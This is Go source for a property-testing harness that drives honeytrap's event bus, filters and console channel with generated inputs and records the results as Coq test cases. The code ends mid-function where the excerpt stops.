		sb.WriteString("[[filter]]\n")
		fmt.Fprintf(&sb, "channel=%s\n", tomlList(f.Channels))
		if f.HasSvcs {
			fmt.Fprintf(&sb, "services=%s\n", tomlList(exprs(f.Svcs)))
		}
		if f.HasCats {
			fmt.Fprintf(&sb, "categories=%s\n", tomlList(exprs(f.Cats)))
		}
		sb.WriteString("\n")
	}
	return sb.String()
}

// restrict mirrors Model.restrict.
func restrict(in BusInput, c string) BusInput {
	out := BusInput{Token: in.Token, Events: in.Events}
	for _, d := range in.Defs {
		if d.Name == c {
			out.Defs = append(out.Defs, d)
		}
	}
	for _, f := range in.Filters {
		g := Flt{HasSvcs: f.HasSvcs, Svcs: f.Svcs, HasCats: f.HasCats, Cats: f.Cats, Channels: []string{}}
		for _, n := range f.Channels {
			if n == c {
				g.Channels = append(g.Channels, n)
			}
		}
		out.Filters = append(out.Filters, g)
	}
	return out
}

// runBus starts the server on the configuration, sends the events one after the other
// on the bus the listener was given and returns every delivery in order.
func runBus(in BusInput, scratch string) (seen []Seen, post []FV, noID int, crash string) {
	for _, f := range in.Filters {
		for _, x := range append(exprs(f.Svcs), exprs(f.Cats)...) {
			if _, err := regexp.Compile(x); err != nil {
				hx.Fatal("generated expression %q does not compile: %v", x, err)
			}
		}
	}
	l, err := start(mkToml(in), scratch, in.Token)
	if err != nil {
		hx.Fatal("server start: %v", err)
	}
	defer l.stop()
	if !l.isStarted() {
		return nil, nil, 0, "server returned before starting the listener"
	}
	if l.bus == nil {
		return nil, nil, 0, "the listener was not handed the event bus"
	}
	for _, e := range in.Events {
		ev := mkEvent(e)
		func() {
			defer func() {
				if r := recover(); r != nil && crash == "" {
					crash = fmt.Sprintf("panic while sending event %d", e.ID)
				}
			}()
			l.bus.Send(ev)
		}()
		post = append(post, fieldOf(ev, "token"))
	}
	l.mu.Lock()
	noID = l.noID
	l.mu.Unlock()
	return l.snapshot(), post, noID, crash
}

func okNames(in BusInput) []string {
	var out []string
	for _, d := range in.Defs {
		if d.Kind == "ok" {
			out = append(out, d.Name)
		}
	}
	return out
}

func runCase(in BusInput, scratch string) (BusObs, string) {
	ob := BusObs{Chans: map[string][]SeenObs{}}
	seen, post, noID, crash := runBus(in, scratch)
	if crash != "" {
		return ob, crash
	}
	ob.Post, ob.NoID = post, noID
	names := okNames(in)
	for _, n := range names {
		ob.Chans[n] = []SeenObs{}
	}
	for _, s := range seen {
		if _, ok := ob.Chans[s.Chan]; !ok {
			return ob, fmt.Sprintf("delivery to a channel %q that is not a configured capture channel", s.Chan)
		}
		ob.Chans[s.Chan] = append(ob.Chans[s.Chan], SeenObs{ID: s.ID, Tok: s.Tok})
	}
	if in.Alone != "" {
		seen2, _, _, crash2 := runBus(restrict(in, in.Alone), scratch)
		if crash2 != "" {
			return ob, "restricted configuration: " + crash2
		}
		ob.Alone = []SeenObs{}
		for _, s := range seen2 {
			if s.Chan != in.Alone {
				return ob, fmt.Sprintf("restricted configuration: delivery to channel %q", s.Chan)
			}
			ob.Alone = append(ob.Alone, SeenObs{ID: s.ID, Tok: s.Tok})
		}
	}
	return ob, ""
}

// ---------------- generators ----------------

var chanNames = []string{"c1", "c2", "c3"}

func genFV(r *hx.Rand, dist map[string]int, what string) FV {
	var v FV
	switch r.Intn(12) {
	case 0, 1:
		v = FV{Kind: "missing"}
	case 2:
		v = FV{Kind: r.PickStr([]string{"int", "bytes", "nil", "bool", "other"})}
	default:
		v = FV{Kind: "str", S: genValue(r)}
	}
	k := v.Kind
	if k != "missing" && k != "str" {
		k = "non-string"
	}
	dist["ev:"+what+"="+k]++
	return v
}

func genExprList(r *hx.Rand, dist map[string]int, what string) (bool, []*Re) {
	switch r.Intn(8) {
	case 0, 1:
		dist["flt:"+what+"=absent"]++
		return false, nil
	case 2:
		dist["flt:"+what+"=empty-list"]++
		return true, []*Re{}
	}
	n := r.PickInt([]int{1, 1, 1, 2, 2, 3})
	pool := rePool()
	var rs []*Re
	for i := 0; i < n; i++ {
		if r.Chance(3, 5) {
			rs = append(rs, pool[r.Intn(len(pool))])
		} else {
			rs = append(rs, genRe(r, r.Range(1, 3)))
		}
	}
	dist[fmt.Sprintf("flt:%s=%d-expr", what, n)]++
	return true, rs
}

func genBus(r *hx.Rand, dist map[string]int) BusInput {
	var in BusInput
	nd := r.PickInt([]int{0, 1, 1, 2, 2, 2, 3, 3, 3, 3, 3, 3})
	for i := 0; i < nd; i++ {
		k := "ok"
		if r.Chance(1, 8) {
			k = r.PickStr([]string{"unknown-type", "no-type"})
		}
		in.Defs = append(in.Defs, Def{Name: chanNames[i], Kind: k})
	}
	dist[fmt.Sprintf("cfg:channels=%d", nd)]++
	nf := r.PickInt([]int{0, 1, 1, 2, 2, 2, 3, 3, 3, 4, 4, 4})
	dist[fmt.Sprintf("cfg:filters=%d", nf)]++
	for i := 0; i < nf; i++ {
		f := Flt{Channels: []string{}}
		nn := r.PickInt([]int{0, 1, 1, 1, 1, 2, 2, 2, 3, 3})
		for j := 0; j < nn; j++ {
			f.Channels = append(f.Channels, r.PickStr([]string{"c1", "c2", "c3", "c1", "c2", "cx"}))
		}
		seenN := map[string]bool{}
		for _, n := range f.Channels {
			if seenN[n] {
				dist["flt:names-a-channel-twice"]++
				break
			}
			seenN[n] = true
		}
		f.HasSvcs, f.Svcs = genExprList(r, dist, "services")
		f.HasCats, f.Cats = genExprList(r, dist, "categories")
		in.Filters = append(in.Filters, f)
	}
	if r.Chance(1, 6) {
		in.Token = ""
		dist["cfg:token=none"]++
	} else {
		in.Token = r.PickStr([]string{"9m4e2mr0ui3e8a215n4g", "bnqd5i9o1rqg00a6v2m0", "c0nd8ka4kfuq1r8g3p20", "dause038di12cb9merog"})
		dist["cfg:token=set"]++
	}
	ne := r.Range(1, 8)
	for i := 0; i < ne; i++ {
		e := Ev{ID: i, Cat: genFV(r, dist, "category"), Svc: genFV(r, dist, "service"), Tok: FV{Kind: "missing"}}
		if r.Chance(1, 6) {
			e.Tok = []FV{{Kind: "str", S: "forged"}, {Kind: "int"}, {Kind: "str", S: ""}, {Kind: "nil"}}[r.Intn(4)]
			dist["ev:token-preset"]++
		}
		in.Events = append(in.Events, e)
	}
	if ok := okNames(in); len(ok) > 0 && r.Chance(1, 2) {
		in.Alone = ok[r.Intn(len(ok))]
	}
	return in
}

// corpus: a realistic configuration and the boundary values the quantifier names
func corpus() []BusInput {
	sshOnly := seq(bolR, lit("ssh"), eolR)
	evs := []Ev{
		{ID: 0, Cat: FV{Kind: "str", S: "ssh"}, Svc: FV{Kind: "str", S: "ssh"}, Tok: FV{Kind: "missing"}},
		{ID: 1, Cat: FV{Kind: "str", S: "telnet"}, Svc: FV{Kind: "str", S: "telnet"}, Tok: FV{Kind: "missing"}},
		{ID: 2, Cat: FV{Kind: "missing"}, Svc: FV{Kind: "missing"}, Tok: FV{Kind: "missing"}},
		{ID: 3, Cat: FV{Kind: "int"}, Svc: FV{Kind: "bytes"}, Tok: FV{Kind: "missing"}},
		{ID: 4, Cat: FV{Kind: "str", S: "sshd"}, Svc: FV{Kind: "str", S: "xssh"}, Tok: FV{Kind: "str", S: "forged"}},
		{ID: 5, Cat: FV{Kind: "str", S: "heartbeat"}, Svc: FV{Kind: "nil"}, Tok: FV{Kind: "int"}},
		{ID: 6, Cat: FV{Kind: "str", S: ""}, Svc: FV{Kind: "str", S: "ssh"}, Tok: FV{Kind: "missing"}},
	}
	defs := []Def{{"c1", "ok"}, {"c2", "ok"}, {"c3", "ok"}}
	return []BusInput{
		{Defs: defs, Token: "9m4e2mr0ui3e8a215n4g", Events: evs, Alone: "c2", Filters: []Flt{
			{Channels: []string{"c1"}},
			{Channels: []string{"c2", "c3"}, HasCats: true, Cats: []*Re{sshOnly}},
			{Channels: []string{"c2"}, HasSvcs: true, Svcs: []*Re{lit("ssh"), lit("telnet")}, HasCats: true, Cats: []*Re{}},
			{Channels: []string{"c3", "cx"}, HasSvcs: true, Svcs: []*Re{cat(bolR, eolR)}},
		}},
		{Defs: defs, Token: "", Events: evs, Alone: "c1", Filters: []Flt{
			{Channels: []string{"c1", "c1"}, HasCats: true, Cats: []*Re{alt(lit("ssh"), lit("telnet"))}},
			{Channels: []string{"c3", "c1"}, HasSvcs: true, Svcs: []*Re{star(anyR)}, HasCats: true, Cats: []*Re{epsR}},
		}},
		{Defs: []Def{{"c1", "unknown-type"}, {"c2", "no-type"}, {"c3", "ok"}}, Token: "c0nd8ka4kfuq1r8g3p20", Events: evs, Alone: "c3", Filters: []Flt{
			{Channels: []string{"c1", "c2", "c3"}, HasCats: true, Cats: []*Re{cat(lit("net"), eolR), cat(bolR, lit("heart"))}},
			{Channels: []string{}},
		}},
		{Defs: defs, Token: "9m4e2mr0ui3e8a215n4g", Events: evs, Filters: nil},
	}
}

// runConc starts the server and lets every stream be sent by its own goroutine.
func runConc(in ConcInput, scratch string) (ConcObs, string) {
	ob := ConcObs{Chans: map[string][]SeenObs{}}
	for _, f := range in.Cfg.Filters {
		for _, x := range append(exprs(f.Svcs), exprs(f.Cats)...) {
			if _, err := regexp.Compile(x); err != nil {
				hx.Fatal("generated expression %q does not compile: %v", x, err)
			}
		}
	}
	l, err := start(mkToml(in.Cfg), scratch, in.Cfg.Token)
	if err != nil {
		hx.Fatal("server start: %v", err)
	}
	defer l.stop()
	if !l.isStarted() {
		return ob, "server returned before starting the listener"
	}
	if l.bus == nil {
		return ob, "the listener was not handed the event bus"
	}
	var wg sync.WaitGroup
	var cmu sync.Mutex
	crash := ""
	release := make(chan struct{})
	for j := range in.Streams {
		evs := make([]event.Event, len(in.Streams[j]))
		for i, e := range in.Streams[j] {
			evs[i] = mkEvent(e)
		}
		wg.Add(1)
		go func(j int, evs []event.Event) {
			defer wg.Done()
			defer func() {
				if r := recover(); r != nil {
					cmu.Lock()
					if crash == "" {
						crash = fmt.Sprintf("panic in sender %d", j)
					}
					cmu.Unlock()
				}
			}()
			<-release
			for _, ev := range evs {
				l.bus.Send(ev)
			}
		}(j, evs)
	}
	close(release)
	done := make(chan struct{})
	go func() { wg.Wait(); close(done) }()
	select {
	case <-done:
	case <-time.After(30 * time.Second):
		return ob, "concurrent senders did not finish within 30 s"
	}
	if crash != "" {
		return ob, crash
	}
	for _, n := range okNames(in.Cfg) {
		ob.Chans[n] = []SeenObs{}
	}
	for _, s := range l.snapshot() {
		if _, ok := ob.Chans[s.Chan]; !ok {
			return ob, fmt.Sprintf("delivery to a channel %q that is not a configured capture channel", s.Chan)
		}
		ob.Chans[s.Chan] = append(ob.Chans[s.Chan], SeenObs{ID: s.ID, Tok: s.Tok})
	}
	return ob, ""
}

// genConc: a generated configuration whose first filter sends everything to the slow
// channel (so that Sends certainly overlap), K = 2..8 senders with 1..5 events each.
func genConc(r *hx.Rand, dist map[string]int) ConcInput {
	cfg := genBus(r, map[string]int{})
	cfg.Events, cfg.Alone = nil, ""
	if len(okNames(cfg)) == 0 {
		cfg.Defs = []Def{{"c1", "ok"}, {"c2", "ok"}}
	}
	ok := okNames(cfg)
	cfg.Slow = ok[r.Intn(len(ok))]
	cfg.DelayUS = r.Range(1000, 2000)
	all := Flt{Channels: []string{cfg.Slow}}
	if r.Chance(1, 3) { // the slow channel is subscribed last instead of first
		cfg.Filters = append(cfg.Filters, all)
	} else {
		cfg.Filters = append([]Flt{all}, cfg.Filters...)
	}
	if len(cfg.Filters) > 4 {
		cfg.Filters = cfg.Filters[:4]
		cfg.Filters[3] = all
	}
	k := r.Range(2, 8)
	dist[fmt.Sprintf("conc:senders=%d", k)]++
	in := ConcInput{Cfg: cfg}
	scratchDist := map[string]int{}
	for j := 0; j < k; j++ {
		var st []Ev
		for i, n := 0, r.Range(1, 5); i < n; i++ {
			st = append(st, Ev{ID: 100*(j+1) + i, Cat: genFV(r, scratchDist, "category"), Svc: genFV(r, scratchDist, "service"), Tok: FV{Kind: "missing"}})
		}
		in.Streams = append(in.Streams, st)
	}
	return in
}

func concCorpus() []ConcInput {
	defs := []Def{{"c1", "ok"}, {"c2", "ok"}, {"c3", "ok"}}
	mk := func(j, n int, cat string) []Ev {
		var st []Ev
		for i := 0; i < n; i++ {
			st = append(st, Ev{ID: 100*(j+1) + i, Cat: FV{Kind: "str", S: cat}, Svc: FV{Kind: "str", S: cat}, Tok: FV{Kind: "missing"}})
		}
		return st
	}
	return []ConcInput{
		{Cfg: BusInput{Defs: defs, Token: "9m4e2mr0ui3e8a215n4g", Slow: "c1", DelayUS: 2000, Filters: []Flt{
			{Channels: []string{"c1"}},
			{Channels: []string{"c2"}, HasCats: true, Cats: []*Re{seq(bolR, lit("ssh"), eolR)}},
			{Channels: []string{"c3", "c2"}, HasSvcs: true, Svcs: []*Re{lit("telnet")}},
		}}, Streams: [][]Ev{mk(0, 4, "ssh"), mk(1, 4, "telnet"), mk(2, 3, "ssh"), mk(3, 3, "smtp")}},
		{Cfg: BusInput{Defs: defs, Token: "", Slow: "c3", DelayUS: 1000, Filters: []Flt{
			{Channels: []string{"c1", "c2"}},
			{Channels: []string{"c3"}},
		}}, Streams: [][]Ev{mk(0, 5, "ssh"), mk(1, 5, "ssh")}},
	}
}

func coqCfg(in BusInput) string {
	var ds, fs []string
	for _, d := range in.Defs {
		ds = append(ds, fmt.Sprintf("(mkCd %s %s)", hx.CoqStr(d.Name), hx.CoqBool(d.Kind == "ok")))
	}
	for _, f := range in.Filters {
		fs = append(fs, fmt.Sprintf("(mkFlt %s %s %s)", coqStrs(f.Channels), coqRes(f.Svcs), coqRes(f.Cats)))
	}
	return fmt.Sprintf("(mkCfg %s %s %s)", hx.CoqList(ds, "chandef"), hx.CoqList(fs, "flt"), hx.CoqStr(in.Token))
}

func coqEvs(evs []Ev) string {
	var es []string
	for _, e := range evs {
		es = append(es, fmt.Sprintf("(mkEv %s %s %s %s)", hx.CoqN(uint64(e.ID)), coqFV(e.Cat), coqFV(e.Svc), coqFV(e.Tok)))
	}
	return hx.CoqList(es, "event")
}

func coqConc(id int, in ConcInput, ob ConcObs) string {
	var ss, os_ []string
	for _, st := range in.Streams {
		ss = append(ss, coqEvs(st))
	}
	var names []string
	for n := range ob.Chans {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		os_ = append(os_, fmt.Sprintf("(%s, %s)", hx.CoqStr(n), coqSeen(ob.Chans[n])))
	}
	return fmt.Sprintf("CC (mkCCase %s %s %s %s)", hx.CoqN(uint64(id)), coqCfg(in.Cfg),
		hx.CoqList(ss, "(list event)"), hx.CoqList(os_, "(str * list (N * fval))"))
}

// ---------------- output ----------------

func coqStrs(xs []string) string {
	var es []string
	for _, x := range xs {
		es = append(es, hx.CoqStr(x))
	}
	return hx.CoqList(es, "str")
}

func coqSeen(xs []SeenObs) string {
	var es []string
	for _, s := range xs {
		es = append(es, fmt.Sprintf("(%s, %s)", hx.CoqN(uint64(s.ID)), coqFV(s.Tok)))
	}
	return hx.CoqList(es, "(N * fval)")
}

func coqBus(id int, in BusInput, ob BusObs) string {
	var ds, fs, es, os_, ps, as []string
	for _, d := range in.Defs {
		ds = append(ds, fmt.Sprintf("(mkCd %s %s)", hx.CoqStr(d.Name), hx.CoqBool(d.Kind == "ok")))
	}
	for _, f := range in.Filters {
		fs = append(fs, fmt.Sprintf("(mkFlt %s %s %s)", coqStrs(f.Channels), coqRes(f.Svcs), coqRes(f.Cats)))
	}
	for _, e := range in.Events {
		es = append(es, fmt.Sprintf("(mkEv %s %s %s %s)", hx.CoqN(uint64(e.ID)), coqFV(e.Cat), coqFV(e.Svc), coqFV(e.Tok)))
	}
	var names []string
	for n := range ob.Chans {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		os_ = append(os_, fmt.Sprintf("(%s, %s)", hx.CoqStr(n), coqSeen(ob.Chans[n])))
	}
	for _, p := range ob.Post {
		ps = append(ps, coqFV(p))
	}
	if in.Alone != "" {
		as = append(as, fmt.Sprintf("(%s, %s)", hx.CoqStr(in.Alone), coqSeen(ob.Alone)))
	}
	return fmt.Sprintf("CB (mkBCase %s (mkCfg %s %s %s) %s %s %s %s)", hx.CoqN(uint64(id)),
		hx.CoqList(ds, "chandef"), hx.CoqList(fs, "flt"), hx.CoqStr(in.Token),
		hx.CoqList(es, "event"), hx.CoqList(os_, "(str * list (N * fval))"), hx.CoqList(ps, "fval"),
		hx.CoqList(as, "(str * list (N * fval))"))
}

type RegexInput struct {
	Re   *Re  `json:"re"`
	Subj hx.B `json:"subject"`
}

type replayIn struct {
	Bus   *BusInput   `json:"bus"`
	Regex *RegexInput `json:"regex"`
	Conc  *ConcInput  `json:"conc"`
}

func main() {
	o := hx.ParseArgs()
	if err := os.Chdir(o.Out); err != nil { // the token file is read from the working directory
		hx.Fatal("chdir %s: %v", o.Out, err)
	}
	r := hx.NewRand(o.Seed)
	dist := map[string]int{}
	var cases []hx.Case
	id := 0

	var buses []BusInput
	var regexes []RegexInput
	var concs []ConcInput
	if o.Only != "" {
		var ri replayIn
		if err := hx.LoadReplay(o.Only, &ri); err != nil {
			hx.Fatal("replay: %v", err)
		}
		if ri.Bus != nil {
			buses = []BusInput{*ri.Bus}
		}
		if ri.Regex != nil {
			regexes = []RegexInput{*ri.Regex}
		}
		if ri.Conc != nil {
			concs = []ConcInput{*ri.Conc}
		}
	} else {
		buses = append(buses, corpus()...)
		nb, nx, ns := 250, 60, 8
		switch o.Tier {
		case "thorough":
			nb, nx, ns = 2500, 500, 14
		case "search":
			nb, nx, ns = 800, 150, 10
		}
		for i := 0; i < nb; i++ {
			buses = append(buses, genBus(r, dist))
		}
		nc := 30
		switch o.Tier {
		case "thorough":
			nc = 300
		case "search":
			nc = 100
		}
		rc := hx.NewRand(o.Seed + 7919) // own stream: the bus/regex cases stay what they were
		concs = append(concs, concCorpus()...)
		for i := 0; i < nc; i++ {
			concs = append(concs, genConc(rc, dist))
		}
		// regex cases: every pool expression and nx random ones against pool + random subjects
		var res []*Re
		res = append(res, rePool()...)
		for i := 0; i < nx; i++ {
			res = append(res, genRe(r, r.Range(1, 4)))
		}
		for _, x := range res {
			subj := map[string]bool{}
			for len(subj) < ns {
				subj[genValue(r)] = true
			}
			var keys []string
			for k := range subj {
				keys = append(keys, k)
			}
			sort.Strings(keys)
			for _, s := range keys {
				regexes = append(regexes, RegexInput{Re: x, Subj: hx.B(s)})
			}
		}
	}

	for _, in := range buses {
		ob, crash := runCase(in, o.Out)
		delivered := 0
		for _, v := range ob.Chans {
			delivered += len(v)
		}
		switch {
		case delivered == 0:
			dist["bus:delivered=0"]++
		case delivered < 5:
			dist["bus:delivered=1-4"]++
		default:
			dist["bus:delivered>=5"]++
		}
		if in.Alone != "" {
			dist["bus:with-restricted-rerun"]++
		}
		in2 := in
		cases = append(cases, hx.Case{ID: id, Kind: "bus", Input: map[string]interface{}{"bus": in2}, Obs: ob, Crash: crash,
			Coq: coqBus(id, in, ob)})
		id++
	}
	for _, in := range concs {
		ob, crash := runConc(in, o.Out)
		in2 := in
		cases = append(cases, hx.Case{ID: id, Kind: "conc", Input: map[string]interface{}{"conc": in2}, Obs: ob, Crash: crash,
			Coq: coqConc(id, in, ob)})
		id++
	}
	for _, x := range regexes {
		expr := showTop(x.Re)
		rx, err := regexp.Compile(expr)
		if err != nil {
			hx.Fatal("generated expression %q does not compile: %v", expr, err)
		}
		verdict := rx.MatchString(string(x.Subj))
		if verdict {
			dist["regex:match"]++
		} else {
			dist["regex:no-match"]++
		}
		x2 := x
		cases = append(cases, hx.Case{ID: id, Kind: "regex", Input: map[string]interface{}{"regex": x2},
			Obs: map[string]interface{}{"expr": expr, "go_match": verdict},
			Coq: fmt.Sprintf("CR (mkRCase %s %s %s %s %s)", hx.CoqN(uint64(id)), coqRe(x.Re), hx.CoqStr(expr), hx.CoqBytes(x.Subj), hx.CoqBool(verdict))})
		id++
	}
	header := "From HT Require Import Common.Bytes C06.Model C06.Check."
	hx.Write(o, "C06", "route", header, "case", cases, dist, nil, 150)
}
