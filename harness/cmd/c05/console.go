//go:build verif
// +build verif

package main

// The console channel: events through the real pushers/console channel (writer replaced by a
// buffer); each event's line must show every stored key with its value.

import (
	"bytes"
	"fmt"
	"strconv"
	"sync"
	"time"

	"github.com/honeytrap/honeytrap/event"
	"github.com/honeytrap/honeytrap/pushers"
	"github.com/honeytrap/honeytrap/pushers/console"
	"verif/harness/hx"
)

type lockedBuf struct {
	mu sync.Mutex
	b  bytes.Buffer
}

func (l *lockedBuf) Write(p []byte) (int, error) {
	l.mu.Lock()
	defer l.mu.Unlock()
	return l.b.Write(p)
}

func (l *lockedBuf) lines() [][]byte {
	l.mu.Lock()
	defer l.mu.Unlock()
	var out [][]byte
	for _, ln := range bytes.SplitAfter(l.b.Bytes(), []byte("\n")) {
		if len(ln) > 0 {
			out = append(out, append([]byte(nil), ln...))
		}
	}
	return out
}

type ConsIn struct {
	Pairs []KV `json:"pairs"`
}

type ConsObs struct {
	Line    hx.B `json:"line"`
	HasLine bool `json:"has_line"`
}

func printableASCII(b []byte) bool {
	for _, c := range b {
		if c < 0x20 || c > 0x7e {
			return false
		}
	}
	return true
}

// strings a client can put into a recorded field, incl. the formatting metacharacters of
// every printf-like sink
var consStrings = []string{"a", "root", "100% sure", "/a%20b", "%s%d%v", "%!", "50%", "%", "a, b=c", "x > y", "{}", "\\x00", "k=v", "tail%"}
var consKeys = []string{"k1", "http.url", "payload", "user%name", "x%sy", "custom.key", "a b"}

func consolePart(o hx.Opts, r *hx.Rand, only *ConsIn) {
	n := 120
	if o.Tier != "quick" {
		n = 1500
	}
	if only != nil {
		n = 1
	}
	buf := &lockedBuf{}
	ch, err := console.New(func(c pushers.Channel) error {
		cc, ok := c.(*console.Console)
		if !ok {
			return fmt.Errorf("unexpected channel type %T", c)
		}
		cc.Writer = buf
		return nil
	})
	if err != nil {
		hx.Fatal("console channel: %v", err)
	}
	ins := make([]ConsIn, n)
	for i := range ins {
		opts := []event.Option{event.Sensor("s"), event.Category("c"), event.Custom("verif.line", i)}
		if only != nil {
			// replay: the recorded pairs (verif.line first)
			ins[i].Pairs = []KV{{Key: hx.B("verif.line"), Val: ValD{Kind: "int", Int: 0}}}
			for _, kv := range only.Pairs {
				if string(kv.Key) == "verif.line" {
					continue
				}
				ins[i].Pairs = append(ins[i].Pairs, kv)
				if kv.Val.Kind == "int" {
					opts = append(opts, event.Custom(string(kv.Key), int(kv.Val.Int)))
				} else {
					opts = append(opts, event.Custom(string(kv.Key), string(kv.Val.Str)))
				}
			}
			ch.Send(event.New(opts...))
			continue
		}
		ins[i].Pairs = append(ins[i].Pairs, KV{Key: hx.B("verif.line"), Val: ValD{Kind: "int", Int: int64(i)}})
		used := map[string]bool{}
		for j, m := 0, r.Range(1, 5); j < m; j++ {
			k := consKeys[r.Intn(len(consKeys))]
			if used[k] {
				continue
			}
			used[k] = true
			if r.Chance(1, 4) {
				v := r.Range(0, 70000)
				opts = append(opts, event.Custom(k, v))
				ins[i].Pairs = append(ins[i].Pairs, KV{Key: hx.B(k), Val: ValD{Kind: "int", Int: int64(v)}})
			} else {
				v := consStrings[r.Intn(len(consStrings))]
				if r.Chance(1, 3) {
					v = string(r.BytesFrom(r.Range(0, 12), []byte("ab%sdv! ,=>{}")))
				}
				opts = append(opts, event.Custom(k, v))
				ins[i].Pairs = append(ins[i].Pairs, KV{Key: hx.B(k), Val: ValD{Kind: "str", Str: hx.B(v)}})
			}
		}
		ch.Send(event.New(opts...))
	}
	// the channel writes from its own goroutine: wait for one line per event (bounded)
	deadline := time.Now().Add(30 * time.Second)
	for time.Now().Before(deadline) && len(buf.lines()) < n {
		time.Sleep(2 * time.Millisecond)
	}
	time.Sleep(20 * time.Millisecond)
	byIdx := map[int][]byte{}
	for _, ln := range buf.lines() {
		// the line of event i carries verif.line=i
		for i := 0; i < n; i++ {
			_ = i
		}
		if p := bytes.Index(ln, []byte("verif.line=")); p >= 0 {
			q := p + len("verif.line=")
			e := q
			for e < len(ln) && ln[e] >= '0' && ln[e] <= '9' {
				e++
			}
			if idx, err := strconv.Atoi(string(ln[q:e])); err == nil {
				if _, dup := byIdx[idx]; !dup {
					byIdx[idx] = ln
				}
			}
		}
	}
	dist := map[string]int{}
	var cases []hx.Case
	for i, in := range ins {
		var ob ConsObs
		line := "(@None bytes)"
		if ln, ok := byIdx[i]; ok {
			ob = ConsObs{Line: ln, HasLine: true}
			line = "(Some " + hx.CoqBytes(ln) + ")"
		} else {
			dist["no-line"]++
		}
		var ps []string
		for _, kv := range in.Pairs {
			if !printableASCII(kv.Key) {
				continue
			}
			var rendered []byte
			switch kv.Val.Kind {
			case "int":
				rendered = []byte(strconv.FormatInt(kv.Val.Int, 10))
			case "str":
				if !printableASCII(kv.Val.Str) {
					continue
				}
				rendered = kv.Val.Str
			default:
				continue
			}
			if bytes.IndexByte(rendered, '%') >= 0 || bytes.IndexByte(kv.Key, '%') >= 0 {
				dist["percent-in-key-or-value"]++
			}
			ps = append(ps, fmt.Sprintf("(%s, %s)", hx.CoqBytes(kv.Key), hx.CoqBytes(rendered)))
		}
		dist["kind:console"]++
		coq := fmt.Sprintf("mkCase %s %s %s", hx.CoqN(uint64(i)), line, hx.CoqList(ps, "(bytes * bytes)"))
		cases = append(cases, hx.Case{ID: i, Kind: "console", Input: in, Obs: ob, Coq: coq})
	}
	hx.Write(o, "C05", "console", "From HT Require Import Common.Bytes C05.CheckConsole.", "case", cases, dist, nil, 300)
}
