// C05 harness: builds events through the real event package from generated option
// lists and records the Range() snapshot, JSON and ToMap behaviour.
package main

import (
	"bufio"
	"encoding/json"
	"errors"
	"fmt"
	"net"
	"os"
	"path/filepath"
	"sort"
	"time"

	fschannel "github.com/honeytrap/honeytrap/pushers/file"
	"github.com/honeytrap/honeytrap/pushers"

	"github.com/honeytrap/honeytrap/event"
	"verif/harness/hx"
)

type ValD struct {
	Kind string `json:"kind"` // str | int | other
	Str  hx.B   `json:"str,omitempty"`
	Int  int64  `json:"int,omitempty"`
	Type int    `json:"type,omitempty"`
}

type KV struct {
	Key hx.B `json:"key"`
	Val ValD `json:"val"`
}

type AddrD struct {
	Kind string `json:"kind"` // tcp | udp | unix | nilip-tcp | ipaddr
	IP   string `json:"ip,omitempty"`
	Port int    `json:"port,omitempty"`
}

type OptD struct {
	Kind    string `json:"kind"` // ctor name
	Str     hx.B   `json:"str,omitempty"`
	Key     hx.B   `json:"key,omitempty"`
	Val     *ValD  `json:"val,omitempty"`
	Payload hx.B   `json:"payload,omitempty"`
	Addr    *AddrD `json:"addr,omitempty"`
	Port    int    `json:"port,omitempty"`
	Map     []KV   `json:"map,omitempty"`
	Sub     []OptD `json:"sub,omitempty"`
}

func goVal(v ValD) interface{} {
	switch v.Kind {
	case "str":
		return string(v.Str)
	case "int":
		return int(v.Int)
	}
	switch v.Type {
	case 1:
		return []byte{1, 2, 0xff}
	case 2:
		return []string{"a", "\xff"}
	case 3:
		return map[string]interface{}{"x": 1, "y": "z"}
	case 4:
		return true
	case 5:
		return 1.5
	case 6:
		return errors.New("boom")
	case 7:
		return struct{ A int }{3}
	case 8:
		return nil
	case 9:
		return time.Unix(0, 0)
	case 100:
		return make(chan int)
	case 101:
		return func() {}
	case 102:
		return complex(1, 2)
	}
	panic("bad type code")
}

func goAddr(a AddrD) net.Addr {
	switch a.Kind {
	case "tcp":
		return &net.TCPAddr{IP: net.ParseIP(a.IP), Port: a.Port}
	case "udp":
		return &net.UDPAddr{IP: net.ParseIP(a.IP), Port: a.Port}
	case "nilip-tcp":
		return &net.TCPAddr{IP: nil, Port: a.Port}
	case "unix":
		return &net.UnixAddr{Name: "/tmp/x.sock", Net: "unix"}
	case "ipaddr":
		return &net.IPAddr{IP: net.ParseIP(a.IP)}
	}
	panic("bad addr kind")
}

func goMap(m []KV) map[string]interface{} {
	out := map[string]interface{}{}
	for _, kv := range m {
		out[string(kv.Key)] = goVal(kv.Val)
	}
	return out
}

// build the real option and the Coq term of the corresponding model option
func build(o OptD) (event.Option, string) {
	st := func(key string, v ValD) string {
		return fmt.Sprintf("OStore %s (%s)", hx.CoqStr(key), coqVal(v))
	}
	s := ValD{Kind: "str", Str: o.Str}
	switch o.Kind {
	case "Token":
		return event.Token(string(o.Str)), st("token", s)
	case "Category":
		return event.Category(string(o.Str)), st("category", s)
	case "Type":
		return event.Type(string(o.Str)), st("type", s)
	case "Sensor":
		return event.Sensor(string(o.Str)), st("sensor", s)
	case "Service":
		return event.Service(string(o.Str)), st("service", s)
	case "Protocol":
		return event.Protocol(string(o.Str)), st("protocol", s)
	case "RemoteAddr":
		return event.RemoteAddr(string(o.Str)), st("remote-addr", s)
	case "HostAddr":
		return event.HostAddr(string(o.Str)), st("host-addr", s)
	case "SourceIP":
		ip := net.ParseIP(string(o.Str))
		return event.SourceIP(ip), st("source-ip", ValD{Kind: "str", Str: hx.B(ip.String())})
	case "DestinationIP":
		ip := net.ParseIP(string(o.Str))
		return event.DestinationIP(ip), st("destination-ip", ValD{Kind: "str", Str: hx.B(ip.String())})
	case "SourcePort":
		return event.SourcePort(uint16(o.Port)), st("source-port", ValD{Kind: "int", Int: int64(uint16(o.Port))})
	case "DestinationPort":
		return event.DestinationPort(uint16(o.Port)), st("destination-port", ValD{Kind: "int", Int: int64(uint16(o.Port))})
	case "Custom":
		return event.Custom(string(o.Key), goVal(*o.Val)), fmt.Sprintf("OStore %s (%s)", hx.CoqBytes(o.Key), coqVal(*o.Val))
	case "Payload":
		return event.Payload(append([]byte(nil), o.Payload...)), "OPayload " + hx.CoqBytes(o.Payload)
	case "SourceAddr":
		return event.SourceAddr(goAddr(*o.Addr)), "OSrcAddr (" + coqAddr(*o.Addr) + ")"
	case "DestinationAddr":
